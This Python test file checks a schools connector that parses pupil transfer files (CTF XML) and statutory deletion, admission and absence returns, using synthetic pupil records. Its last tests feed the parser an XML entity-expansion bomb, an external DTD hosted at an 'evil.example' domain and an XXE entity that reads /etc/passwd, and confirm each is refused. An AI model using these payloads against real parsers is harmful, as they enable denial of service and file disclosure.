"""Schools connector: CTF XML and statutory returns (deletion, admission, 10-day absence)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from connectors.common.parsing import ParseContext
from connectors.schools.ctf import parse_ctf
from connectors.schools.returns import parse_returns
from tests.unit.connectors.conftest import FIXTURES, fixture_bytes


def test_ctf_to_known_school_carries_every_field(ctx: ParseContext) -> None:
    result = parse_ctf(fixture_bytes("schools", "3832999_CTF_3844001_001.xml"), "3832999_CTF_3844001_001.xml", ctx)
    assert (result.records, len(result.events), result.quarantined, result.warnings) == (1, 1, [], [])
    event = result.events[0]
    assert event["event_type"] == "school.ctf_transfer"
    assert event["responsible_la"] == "383"
    assert event["source"] == {
        "partner_id": "3832999",
        "kind": "school",
        "reference": "3832999_CTF_3844001_001.xml#pupil 1",
    }
    assert (event["source_la"], event["source_estab"], event["source_school_name"]) == (
        "383",
        "2999",
        "Example Primary School",
    )
    assert (event["destination_kind"], event["destination_la"], event["destination_estab"]) == ("school", "384", "4001")
    assert (event["ctf_version"], event["document_qualifier"]) == ("25.0", "full")
    assert event["leaving_date"] == date(2025, 10, 3)
    assert event["occurred_at"] == datetime(2025, 10, 3, tzinfo=UTC)
    assert (event["sessions_possible"], event["sessions_attended"]) == (40, 36)
    child = event["child"]
    assert (child["given_name"], child["middle_names"], child["surname"]) == ("Amina", "Joy", "EXAMPLE")
    assert (child["date_of_birth"], child["date_of_birth_precision"], child["sex"]) == (date(2014, 2, 15), "day", "F")
    assert (child["upn"], child["former_upn"], child["nhs_number"]) == ("H801200001001", "G80120000101A", None)
    assert child["addresses"] == [
        {
            "lines": ["Flat 2", "10 Sample Street", "Exampletown"],
            "town": "Leeds",
            "postcode": "LS1 6AE",
            "uprn": "100000000001",
            "valid_from": None,
            "valid_to": None,
            "kind": "home",
        }
    ]
    assert child["contacts"] == [
        {
            "name": "Grace EXAMPLE",
            "relationship": "PAM",
            "phones": ["07700 900000"],
            "has_parental_responsibility": True,
        }
    ]
    assert child["flags"] == {"looked_after": False, "sen_support": True, "ehcp": False, "restricted": False}
    assert child["invalid_identifiers"] == []


def test_lost_pupil_ctf_is_unknown_destination(ctx: ParseContext) -> None:
    result = parse_ctf(fixture_bytes("schools", "3832999_CTF_XXXXXXX_001.xml"), "3832999_CTF_XXXXXXX_001.xml", ctx)
    assert (result.records, len(result.events), len(result.quarantined)) == (1, 1, 0)
    event = result.events[0]
    assert (event["destination_kind"], event["destination_la"], event["destination_estab"]) == ("unknown", None, None)
    assert event["leaving_date"] is None
    assert event["occurred_at"] == datetime(2025, 11, 14, 16, 40, tzinfo=UTC)  # header DateTime
    child = event["child"]
    assert (child["given_name"], child["surname"], child["upn"], child["sex"]) == (
        "Tomasz",
        "SAMPLE",
        "B801200005001",
        "M",
    )
    assert child["addresses"][0]["lines"] == ["22 Nowhere Close", "Leeds"]
    assert child["addresses"][0]["postcode"] == "LS2 7AA"
    assert child["addresses"][0]["town"] is None


def test_old_ctf_with_gender_namespace_and_outside_sector(ctx: ParseContext) -> None:
    name = "3832999_CTF_MMMMMMM_001.xml"
    result = parse_ctf(fixture_bytes("schools", f"variants/{name}"), name, ctx)
    assert (result.records, len(result.events)) == (2, 2)
    first, second = result.events
    assert first["destination_kind"] == "outside_maintained_sector"
    assert first["ctf_version"] == "19.0" and first["document_qualifier"] == "partial"
    child = first["child"]
    assert child["sex"] == "F" and child["former_surnames"] == ["OLDNAME"] and child["uln"] == "1234567899"
    assert child["flags"] == {"looked_after": True, "sen_support": False, "ehcp": True, "restricted": False}
    assert child["addresses"][0]["postcode"] == "ZZ99 3VZ"  # no fixed abode: recognised, not rejected
    assert second["child"]["sex"] == "M"
    assert sorted(w.text for _, w in result.warnings) == [
        "Attendance: 11 sessions recorded but only 10 possible",
        "CTFversion 19.0: older than the current (25.0) and previous (24.0) versions",
        "CTFversion 19.0: older than the current (25.0) and previous (24.0) versions",
    ]


def test_file_name_tokens_are_checked_against_the_header(ctx: ParseContext) -> None:
    data = fixture_bytes("schools", "3832999_CTF_3844001_001.xml")
    result = parse_ctf(data, "3832999_CTF_3844002_001.xml", ctx)
    assert len(result.events) == 1
    assert [w.text for _, w in result.warnings] == [
        "file name destination 3844002 does not match header DestSchool 3844001"
    ]


def test_deletion_return_csv_shared_example(ctx: ParseContext) -> None:
    result = parse_returns(fixture_bytes("schools", "deletion_return.csv"), "deletion_return.csv", ctx)
    assert (result.records, len(result.events), result.quarantined, result.warnings) == (2, 2, [], [])
    lost, moved = result.events
    assert lost["event_type"] == "school.deletion_return"
    assert (lost["school_laestab"], lost["deletion_ground"], lost["deletion_date"]) == (
        "3832999",
        "9(1)(i)",
        date(2025, 11, 14),
    )
    assert lost["new_school_laestab"] is None and lost["destination_la"] is None
    assert lost["child"]["contacts"] == [
        {"name": "Anna SAMPLE", "relationship": None, "phones": ["07700 900123"], "has_parental_responsibility": True}
    ]
    assert lost["child"]["addresses"][0]["postcode"] == "LS2 7AA"
    assert (moved["deletion_ground"], moved["new_school_laestab"], moved["new_school_name"]) == (
        "9(1)(a)",
        "3844001",
        "Example Academy",
    )
    assert moved["new_school_start_date"] == date(2025, 10, 6) and moved["destination_la"] == "384"
    assert moved["child"]["addresses"][0]["lines"] == ["Flat 2, 10 Sample Street", "Leeds"]
    assert moved["lawful_basis"].startswith("SI 2024/208 reg 13")


def test_deletion_return_json_shared_example_matches_its_csv_twin(ctx: ParseContext) -> None:
    result = parse_returns(fixture_bytes("schools", "deletion_return.json"), "deletion_return.json", ctx)
    assert (result.records, len(result.events), result.quarantined) == (1, 1, [])
    event = result.events[0]
    assert (event["school_urn"], event["school_name"]) == ("199999", "Example Primary School")
    assert event["deletion_ground"] == "9(1)(i)"
    assert event["deletion_ground_text"].startswith("continually absent for 20 school days")
    assert event["child"]["upn"] == "B801200005001" and event["child"]["middle_names"] is None
    assert event["child"]["contacts"][0]["phones"] == ["07700 900123"]
    csv_twin = parse_returns(fixture_bytes("schools", "deletion_return.csv"), "deletion_return.csv", ctx).events[0]
    assert event["event_id"] == csv_twin["event_id"]  # the same return re-sent another way dedupes


def test_csv_columns_in_any_order_and_aliases(ctx: ParseContext) -> None:
    original = fixture_bytes("schools", "deletion_return.csv").decode()
    cols = original.splitlines()[0].split(",")
    order = list(reversed(range(len(cols))))
    parsed = list(csv.reader(io.StringIO(original)))
    out = io.StringIO()
    writer = csv.writer(out)
    renamed = [
        {"dob": "Date Of Birth", "forename": "First-Name", "deleted_on": "deletion_date"}.get(c, c.upper())
        for c in cols
    ]
    writer.writerow([renamed[i] for i in order])
    for row in parsed[1:]:
        writer.writerow([row[i] for i in order])
    again = parse_returns(out.getvalue().encode(), "reordered.csv", ctx)
    before = parse_returns(original.encode(), "deletion_return.csv", ctx)
    assert [e["event_id"] for e in again.events] == [e["event_id"] for e in before.events]
    assert [e["child"] for e in again.events] == [e["child"] for e in before.events]


def test_admission_and_absence_returns(ctx: ParseContext) -> None:
    adm = parse_returns(fixture_bytes("schools", "variants/admission_returns.csv"), "admission_returns.csv", ctx)
    assert (adm.records, len(adm.events), len(adm.quarantined)) == (2, 1, 1)
    event = adm.events[0]
    assert event["event_type"] == "school.admission_return"
    assert (event["admission_date"], event["year_group"]) == (date(2025, 11, 20), "Y6")
    assert (event["previous_school_laestab"], event["previous_la"]) == ("3844001", "384")
    assert adm.quarantined[0].reasons == ["admission date missing"]
    assert adm.quarantined[0].position == "line 3"

    ref = parse_returns(fixture_bytes("schools", "variants/absence_referrals.json"), "absence_referrals.json", ctx)
    assert (ref.records, len(ref.events), len(ref.quarantined)) == (2, 1, 1)
    event = ref.events[0]
    assert event["event_type"] == "school.absence_referral"
    assert (event["first_absence_date"], event["last_attended_date"], event["school_days_absent"]) == (
        date(2025, 11, 3),
        date(2025, 10, 31),
        12,
    )
    assert event["absence_codes"] == ["O", "N"] and event["safeguarding_concern"] is True
    assert event["enquiries_made"] == ["home visit", "phone call to parent"]
    assert ref.quarantined[0].reasons == ["school days absent 'ten': not a whole number"]


def test_short_absence_is_a_warning_not_a_quarantine(ctx: ParseContext) -> None:
    body = (
        "return_type,laestab,forename,surname,dob,sex,first_absence_date,school_days_absent\n"
        "absence,3832999,Amina,EXAMPLE,2014-02-15,F,2025-11-03,6\n"
    )
    result = parse_returns(body.encode(), "absence.csv", ctx)
    assert len(result.events) == 1
    assert [w.text for _, w in result.warnings] == ["6 school days absent: below the 10-day referral threshold"]


# file → (records, events, quarantined, reason fragments that must appear)
MALFORMED = {
    "3832999_CTF_3844001_101.xml": (1, 0, 1, ["not well-formed XML"]),
    "3832999_CTF_3844001_102.xml": (1, 0, 1, ["XML refused for safety"]),
    "3832999_CTF_3844001_103.xml": (1, 0, 1, ["XML refused for safety"]),
    "3832999_CTF_3844001_104.xml": (1, 0, 1, ["not UTF-8 text as declared"]),
    "3832999_CTF_3844001_106.xml": (3, 2, 1, ["Surname missing", "DOB '2013-02-30': day 30 is not in that month"]),
    "3832999_CTF_XXXXXXX_107.xml": (
        1,
        0,
        1,
        ["lost-pupil CTF (destination XXX/XXXX) must hold exactly one pupil, found 2"],
    ),
    "3832999_CTF_3844001_108.xml": (1, 0, 1, ["CTFversion '25'", "DestSchool LEA 'ABC'", "DestSchool Estab '12'"]),
    "3832999_CTF_3844001_109.xml": (2, 0, 2, ["DOB missing", "DOB 2099-01-01: in the future"]),
    "not_a_ctf.xml": (1, 0, 1, ["root element is <Invoice>, not <CTfile>"]),
    "deletion_bad_rows.csv": (
        5,
        2,
        3,
        ["deletion ground '9(1)(z)'", "date of birth '2099-01-01': in the future", "5 values for 12 columns"],
    ),
    "deletion_bad.json": (
        4,
        1,
        3,
        ["date of deletion missing", "LAESTAB 9992999: 999 is not an LA number", "should be a JSON object"],
    ),
    "returns_latin1.csv": (1, 0, 1, ["not UTF-8 text"]),
    "deletion_truncated.json": (1, 0, 1, ["not valid JSON"]),
}


@pytest.mark.parametrize("name", sorted(MALFORMED))
def test_malformed_school_inputs_are_counted_and_explained(name: str, ctx: ParseContext) -> None:
    data = (FIXTURES / "schools" / "malformed" / name).read_bytes()
    result = parse_ctf(data, name, ctx) if name.endswith(".xml") else parse_returns(data, name, ctx)
    records, events, quarantined, fragments = MALFORMED[name]
    assert (result.records, len(result.events), len(result.quarantined)) == (records, events, quarantined)
    assert len(result.events) + len(result.quarantined) == result.records
    reasons = [r for q in result.quarantined for r in q.reasons]
    for fragment in fragments:
        assert any(fragment in r for r in reasons), (fragment, reasons)
    for q in result.quarantined:
        assert q.original and q.file_name == name and q.position


def test_quarantined_pupil_keeps_its_original_bytes(ctx: ParseContext) -> None:
    name = "3832999_CTF_3844001_106.xml"
    result = parse_ctf((FIXTURES / "schools" / "malformed" / name).read_bytes(), name, ctx)
    (q,) = result.quarantined
    assert q.position == "pupil 2"
    assert q.original.startswith(b"<Pupil>") and b"<Forename>Tomasz</Forename>" in q.original
    assert q.original.endswith(b"</Pupil>")


def test_identifier_failure_flows_with_invalid_identifiers_only(ctx: ParseContext) -> None:
    name = "3832999_CTF_3844001_106.xml"
    result = parse_ctf((FIXTURES / "schools" / "malformed" / name).read_bytes(), name, ctx)
    zofia = next(e for e in result.events if e["child"]["given_name"] == "Zofia")
    assert zofia["child"]["upn"] is None
    assert zofia["child"]["invalid_identifiers"] == [
        {"scheme": "upn", "value": "H801200001002", "reason": "UPN H801200001002: check letter should be X, found H"}
    ]
    assert [(eid, w.code) for eid, w in result.warnings] == [(zofia["event_id"], "invalid_upn")]


def test_xml_bomb_is_refused_quickly(ctx: ParseContext) -> None:
    entities = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 12))
    bomb = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e0 "boom">{entities}]><CTfile>&e11;</CTfile>'.encode()
    result = parse_ctf(bomb, "bomb.xml", ctx)
    assert result.quarantined[0].problems[0].code == "xml_refused"


@pytest.mark.parametrize(
    ("doc", "code"),
    [
        (
            b'<?xml version="1.0"?><!-- note --><!DOCTYPE CTfile SYSTEM "http://evil.example/x.dtd"><CTfile/>',
            "xml_refused",
        ),
        (
            b'<?xml version="1.0"?>\n<!DOCTYPE CTfile [<!ENTITY x SYSTEM "file:///etc/passwd">]><CTfile>&x;</CTfile>',
            "xml_refused",
        ),
        (b"<CTfile>&undeclared;</CTfile>", "xml_unreadable"),
        (b"<CTfile><!DOCTYPE late></CTfile>", "xml_unreadable"),
    ],
)
def test_dtds_and_entities_are_refused_wherever_they_appear(doc: bytes, code: str, ctx: ParseContext) -> None:
    result = parse_ctf(doc, "x.xml", ctx)
    assert [p.code for p in result.quarantined[0].problems] == [code]


def test_parse_is_deterministic_so_reruns_are_safe() -> None:
    data = fixture_bytes("schools", "3832999_CTF_3844001_001.xml")
    first = parse_ctf(data, "3832999_CTF_3844001_001.xml", ParseContext(today=date(2026, 1, 1)))
    second = parse_ctf(data, "3832999_CTF_3844001_001.xml", ParseContext(today=date(2026, 1, 2)))
    assert first.events[0]["event_id"] == second.events[0]["event_id"]


def test_a_pupil_repeated_in_one_ctf_is_warned(ctx: ParseContext) -> None:
    data = fixture_bytes("schools", "3832999_CTF_3844001_001.xml").decode()
    start, end = data.index("<Pupil>"), data.index("</Pupil>") + len("</Pupil>")
    twice = (data[:end] + data[start:end] + data[end:]).encode()
    result = parse_ctf(twice, "3832999_CTF_3844001_001.xml", ctx)
    assert (result.records, len(result.events)) == (2, 2)
    assert [w.text for _, w in result.warnings] == ["pupil 2 repeats pupil 1 (UPN matches)"]
